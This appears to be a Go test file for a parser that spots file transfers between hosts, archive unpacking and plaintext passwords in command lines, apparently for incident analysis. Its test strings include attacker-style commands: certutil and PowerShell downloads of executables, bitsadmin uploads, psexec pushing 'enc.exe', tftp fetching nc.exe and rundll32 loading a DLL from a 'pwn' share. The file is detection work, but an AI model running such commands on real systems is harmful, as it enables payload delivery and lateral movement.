package cmdline

import (
	"encoding/base64"
	"fmt"
	"strings"
	"testing"
	"unicode/utf16"
)

func encode(s string) string {
	var b []byte
	for _, u := range utf16.Encode([]rune(s)) {
		b = append(b, byte(u), byte(u>>8))
	}
	return base64.StdEncoding.EncodeToString(b)
}

// show writes a meaning on one line: channel from > to name, and drives.
func show(m Meaning) string {
	var out []string
	end := func(p Place) string {
		if p.Local() {
			return p.Path
		}
		s := "[" + p.Host
		if p.Port != "" {
			s += ":" + p.Port
		}
		return s + "]" + p.Share + "|" + p.Path
	}
	for _, x := range m.Moves {
		s := fmt.Sprintf("%s %s > %s = %s", x.Channel, end(x.From), end(x.To), x.Name)
		if x.Old != "" {
			s += " was " + x.Old
		}
		if x.On != "" {
			s += " on " + x.On
		}
		out = append(out, s)
	}
	for _, d := range m.Drives {
		out = append(out, fmt.Sprintf("drive %s [%s]%s %s", d.Letter, d.Host, d.Share, d.User))
	}
	return strings.Join(out, "; ")
}

func TestRead(t *testing.T) {
	for _, c := range []struct{ line, want string }{
		{`cmd.exe /c copy tool.exe \\WS02\C$\Windows\Temp\tool.exe`, `smb tool.exe > [WS02]C$|Windows\Temp\tool.exe = tool.exe`},
		{`cmd /c copy /y "C:\my tools\a.exe" \\WS02\ADMIN$\Temp`, `smb C:\my tools\a.exe > [WS02]ADMIN$|Temp = a.exe`},
		{`C:\Windows\system32\cmd.exe /c "co^py a.exe \\W^S02\C$\b.exe & del a.exe"`, `smb a.exe > [WS02]C$|b.exe = b.exe was a.exe`},
		{`cmd /c copy a.dll+b.dll \\s\x\ >nul`, `smb a.dll > [s]x| = a.dll; smb b.dll > [s]x| = b.dll`},
		{`cmd /c copy c:\a.exe d:\b.exe`, ``},
		{`xcopy \\fs\tools\x.exe c:\temp\ /y /q`, `smb [fs]tools|x.exe > c:\temp\ = x.exe`},
		{`robocopy C:\stage \\srv\c$\stage kit.zip run.ps1 /MT:8`, `smb C:\stage\kit.zip > [srv]c$|stage\kit.zip = kit.zip; smb C:\stage\run.ps1 > [srv]c$|stage\run.ps1 = run.ps1`},
		{`robocopy.exe \\a\b c:\d /e`, `smb [a]b|*.* > c:\d\*.* = *.*`},
		{`esentutl.exe /y \\live\x\adrestore.exe /d c:\t\a.exe /o`, `smb [live]x|adrestore.exe > c:\t\a.exe = a.exe was adrestore.exe`},
		{`expand \\h\s\p.cab c:\p.exe`, `smb [h]s|p.cab > c:\p.exe = p.exe was p.cab`},
		{`extrac32 /Y /C \\h\s\t.txt c:\f.exe`, `smb [h]s|t.txt > c:\f.exe = f.exe was t.txt`},
		{`certutil -urlcache -split -f http://10.0.0.5:8080/p.exe c:\p.exe`, `http [10.0.0.5:8080]|/p.exe > c:\p.exe = p.exe`},
		{`certutil -urlcache -f \\10.0.0.5\s\p.exe p.exe`, `smb [10.0.0.5]s|p.exe > p.exe = p.exe`},
		{`bitsadmin /transfer j /download /priority normal http://h/a.exe c:\a.exe`, `bits [h]|/a.exe > c:\a.exe = a.exe`},
		{`bitsadmin /transfer j /upload http://h/up/a.7z c:\a.7z`, `bits c:\a.7z > [h]|/up/a.7z = a.7z`},
		{`curl -o c:\x.exe http://10.1.1.1/x.exe`, `http [10.1.1.1]|/x.exe > c:\x.exe = x.exe`},
		{`curl -sO http://10.1.1.1/x.exe?a=1`, `http [10.1.1.1]|/x.exe?a=1 >  = x.exe`},
		{`curl -T kit.zip -u bob:pw ftp://10.1.1.2/in/`, `ftp kit.zip > [10.1.1.2]|/in/ = kit.zip`},
		{`curl http://10.1.1.1/status`, ``},
		{`wget -O /tmp/x http://h/x.elf`, `http [h]|/x.elf > /tmp/x = x.elf`},
		{`powershell -nop -c "iwr http://h:81/a.ps1 -OutFile C:\a.ps1"`, `http [h:81]|/a.ps1 > C:\a.ps1 = a.ps1`},
		{`powershell -enc ` + encode(`Copy-Item C:\t\a.exe -Destination \\WS3\C$\Temp -Force`), `smb C:\t\a.exe > [WS3]C$|Temp = a.exe`},
		{`powershell.exe -Command (New-Object Net.WebClient).DownloadFile('http://10.2.2.2/m.exe','C:\m.exe')`, `http [10.2.2.2]|/m.exe > C:\m.exe = m.exe`},
		{`powershell Start-BitsTransfer -Source \\s\d\u.exe -Destination C:\u.exe`, `smb [s]d|u.exe > C:\u.exe = u.exe`},
		{`powershell Copy-Item -Path a.exe -Destination C:\x -ToSession $s`, `winrm a.exe > [?]|C:\x = a.exe`},
		{`powershell -c "$s=New-PSSession FS01; Copy-Item C:\a.exe -Destination C:\Temp\ -ToSession $s; Remove-PSSession $s"`, `winrm C:\a.exe > [FS01]|C:\Temp\ = a.exe`},
		{`powershell "$a = New-PSSession -Credential $c -ComputerName FS01; $B = nsn FS02; Copy-Item -FromSession $b C:\b.exe C:\x"`, `winrm [FS02]|C:\b.exe > C:\x = b.exe`},
		{`powershell Copy-Item a.exe C:\Temp\ -ToSession (New-PSSession -ComputerName FS01)`, `winrm a.exe > [FS01]|C:\Temp\ = a.exe`},
		{`powershell "$s=New-PSSession FS01; Copy-Item a.exe C:\Temp\ -ToSession $t"`, `winrm a.exe > [?]|C:\Temp\ = a.exe`},
		{`powershell "$s=New-PSSession FS01,FS02; Copy-Item a.exe C:\Temp\ -ToSession $s"`, `winrm a.exe > [?]|C:\Temp\ = a.exe`},
		{`powershell.exe -c Copy-Item -ToSession (New-PSSession FS01) a.exe C:\Windows\a.exe`, `winrm a.exe > [FS01]|C:\Windows\a.exe = a.exe`},
		{`powershell Copy-Item (Join-Path $d a.exe) \\h\c$\b.exe`, `smb  > [h]c$|b.exe = b.exe`},
		{`powershell "$r = iwr http://h/a.exe -OutFile C:\a.exe"`, `http [h]|/a.exe > C:\a.exe = a.exe`},
		{`powershell (iwr http://h/a.exe -OutFile C:\a.exe).StatusCode`, `http [h]|/a.exe > C:\a.exe = a.exe`},
		{`powershell "$h='WS3'; $f = 'C:\my tools\a.exe'; copy $F \\$h\c$\$x\"`, `smb C:\my tools\a.exe > [WS3]c$|$x = a.exe`},
		{`powershell "((copy a.exe \\h\c$\(; copy b.exe \\h\c$\"`, `smb b.exe > [h]c$| = b.exe; smb a.exe > [h]c$| = a.exe`},
		{`pscp.exe -pw secret a.zip root@10.3.3.3:/tmp/`, `ssh a.zip > [10.3.3.3]|/tmp/ = a.zip`},
		{`scp -P 2222 u@h:/etc/x.conf .`, `ssh [h]|/etc/x.conf > . = x.conf`},
		{`rsync -avz a.bin rsync://h/mod/a.bin`, `rsync a.bin > [h]|/mod/a.bin = a.bin`},
		{`rsync -a a.bin hh::mod/`, `rsync a.bin > [hh]|mod/ = a.bin`},
		{`tftp -i 10.1.1.1 GET nc.exe`, `tftp [10.1.1.1]|nc.exe > nc.exe = nc.exe`},
		{`PsExec.exe \\WS05 -s -c -f C:\t\enc.exe --go`, `smb C:\t\enc.exe > [WS05]ADMIN$|enc.exe = enc.exe`},
		{`psexec \\WS05 -u a -p b cmd /c copy \\dc\s\e.exe c:\e.exe`, `smb [dc]s|e.exe > c:\e.exe = e.exe on WS05`},
		{`wmic /node:"WS02" process call create "cmd /c copy \\dc\x\a.exe c:\a.exe"`, `smb [dc]x|a.exe > c:\a.exe = a.exe on WS02`},
		{`winrs -r:WS9 xcopy \\f\s\a.exe c:\`, `smb [f]s|a.exe > c:\ = a.exe on WS9`},
		{`schtasks /create /s WS7 /tn t /tr "cmd /c copy \\f\s\a.exe c:\b" /sc once`, `smb [f]s|a.exe > c:\b = a.exe on WS7`},
		{`net use Z: \\srv\c$ pw /user:CORP\adm`, `drive z: [srv]c$ CORP\adm`},
		{`net1 use \\srv\ipc$`, `drive  [srv]ipc$ `},
		{`smbclient //10.0.0.7/C$ -U adm%pw -c "cd Windows; put a.exe b.exe"`, `smb a.exe > [10.0.0.7]C$|Windows\b.exe = b.exe was a.exe`},
		{`rundll32 \\172.16.205.1\pwn\test.dll,Start`, ``},
		{`copy`, ``}, {``, ``}, {`"`, ``}, {`cmd /c`, ``}, {`powershell -enc !!!`, ``},
	} {
		if got := show(Read(c.line)); got != c.want {
			t.Errorf("%s\n got %s\nwant %s", c.line, got, c.want)
		}
	}
}

func TestReadScript(t *testing.T) {
	for _, c := range []struct{ text, want string }{
		{"$s = 1\nCopy-Item `\n  -Path x.exe -Destination '\\\\h\\c$\\x y\\'\n", `smb x.exe > [h]c$|x y\ = x.exe`},
		{`foreach ($h in $all) { copy 'a.exe' "\\$h\admin$\a.exe" }`, `smb a.exe > [$h]admin$|a.exe = a.exe`},
		{`cmd /c "copy a.exe \\q\d"`, `smb a.exe > [q]d| = a.exe`},
		{`New-PSDrive -Name X -PSProvider FileSystem -Root \\h\c$ -Credential $c`, `drive x: [h]c$ `},
		{`Write-Host "copy a \\h\c$"`, ``},
	} {
		if got := show(ReadScript(c.text)); got != c.want {
			t.Errorf("%s\n got %s\nwant %s", c.text, got, c.want)
		}
	}
}

func TestUnpackings(t *testing.T) {
	for line, want := range map[string]Unpacking{
		`C:\ProgramData\7z.exe x -pK1 C:\PerfLogs\t.7z -oC:\PerfLogs`: {"7z", `C:\PerfLogs\t.7z`, `C:\PerfLogs`, true},
		`7za e t.7z -y`: {"7za", "t.7z", "", false},
		`"C:\Program Files\WinRAR\Rar.exe" x -hpK1 "C:\my t.rar" C:\Temp\`: {"rar", `C:\my t.rar`, `C:\Temp`, true},
		`rar x -p- t.rar a.exe`:              {"rar", "t.rar", "", false},
		`tar -xf C:\t.tar.gz -C C:\Temp`:     {"tar", `C:\t.tar.gz`, `C:\Temp`, false},
		`tar xzvf /tmp/t.tgz`:                {"tar", "/tmp/t.tgz", "", false},
		`unzip -o -P K1 t.zip -d C:\x`:       {"unzip", "t.zip", `C:\x`, true},
		`expand.exe C:\t.cab -F:* C:\Temp`:   {"expand", `C:\t.cab`, `C:\Temp`, false},
		`extrac32 /Y /E /L C:\Temp C:\t.cab`: {"extrac32", `C:\t.cab`, `C:\Temp`, false},
		`powershell -c "Expand-Archive -Force -Path C:\t.zip -DestinationPath C:\x\"`: {"expand-archive", `C:\t.zip`, `C:\x`, false},
		`powershell Expand-Archive C:\t.zip C:\x`:                                     {"expand-archive", `C:\t.zip`, `C:\x`, false},
		`cmd.exe /c cd C:\x & 7z x t.7z & a.exe`:                                      {"7z", "t.7z", "", false},
		`7z a t.7z C:\d`:                                                              {}, `7z l t.7z`: {}, `tar -cf t.tar d`: {}, `tar -tf t.tar`: {}, `unzip -l t.zip`: {}, `expand -D t.cab`: {}, `rar`: {}, `unzip`: {},
		`psexec \\h 7z x t.7z`: {}, // on another host
	} {
		m := Read(line)
		if len(m.Unpackings) > 1 || len(m.Unpackings) == 0 && want != (Unpacking{}) || len(m.Unpackings) == 1 && m.Unpackings[0] != want {
			t.Errorf("%s: %+v", line, m.Unpackings)
		}
	}
}

func TestRedact(t *testing.T) {
	for _, line := range []string{
		`net use \\srv\c$ S3cret /user:CORP\adm`, `net use Z: \\srv\c$ "S3cret" /user:adm`, `net use \\srv\c$ /user:adm S3cret`, `net user bob S3cret /add`,
		`psexec \\h -u a -p S3cret cmd`, `"PSEXESVC" -u demo\admmig -p S3cret -accepteula`, `wmic /node:h /user:a /password:S3cret process list`, `winrs -r:h -u:a -p:S3cret cmd`,
		`curl -u bob:S3cret http://h/`, `curl --user bob:S3cret http://h/`, `curl -H "Authorization: Bearer S3cret" http://h/`, `wget ftp://bob:S3cret@h/x`,
		`sshpass -p S3cret scp a b:`, `smbclient //h/s -U bob%S3cret -c ls`, `pscp -pw S3cret a h:`, `powershell ConvertTo-SecureString "S3cret" -AsPlainText -Force`,
		`powershell ConvertTo-SecureString -AsPlainText S3cret -Force`, `schtasks /create /s h /u a /p S3cret /tn x`, `cmdkey /add:h /user:a /pass:S3cret`, `sc config x password= S3cret`,
		`powershell -enc ` + encode(`net use \\h\c$ S3cret /user:a`), `New-Object Net.NetworkCredential("a","S3cret")`,
		`C:\ProgramData\7z.exe x -pS3cret -oC:\Temp C:\t.7z`, `rar a -hpS3cret x.rar C:\d`, `"C:\Program Files\WinRAR\Rar.exe" x -y -p"S3cret x" t.rar`, `unzip -o -P S3cret t.zip`,
	} {
		got := Redact(line)
		if strings.Contains(got, "S3cret") || !strings.Contains(got, "***") {
			t.Errorf("%s: %s", line, got)
		}
		if i := strings.Index(line, "-enc "); i > 0 && strings.Contains(got, line[i+5:]) {
			t.Errorf("the encoded secret is still there: %s", got)
		}
	}
	for _, line := range []string{`net use * /delete`, `cmd /c dir c:\`, `curl http://h:80/x`, `copy a.exe \\h\c$\`, `net use \\srv\c$`, `robocopy a b /PURGE`, `net use Z: \\srv\c$ /persistent:no`, `7z x -y t.7z`, `rar x -p- t.rar`, `unzip -o t.zip -d p`} {
		if got := Redact(line); got != line {
			t.Errorf("%s became %s", line, got)
		}
	}
}

func FuzzRead(f *testing.F) {
	f.Add(`cmd /c "co^py a \\h\c$" & curl -o x http://h/y`)
	f.Add(`powershell -enc ` + encode(`iwr http://h/a -OutFile b`))
	f.Add(`psexec \\a,b -c x`)
	f.Add(`net use z: \\h\s p /user:q`)
	f.Add(`ftp.exe -s:c.txt h`)
	f.Fuzz(func(t *testing.T, line string) {
		if s := Opens(line); s.Host != "" && (s.Tool == "" || s.Channel == "") {
			t.Errorf("%q: a session of no tool: %+v", line, s)
		}
		for _, m := range []Meaning{Read(line), ReadScript(line), ReadShell(line)} {
			for _, x := range m.Moves {
				if x.From.Local() && x.To.Local() {
					t.Errorf("%q: a movement on one host: %+v", line, x)
				}
			}
		}
		Redact(line)
	})
}
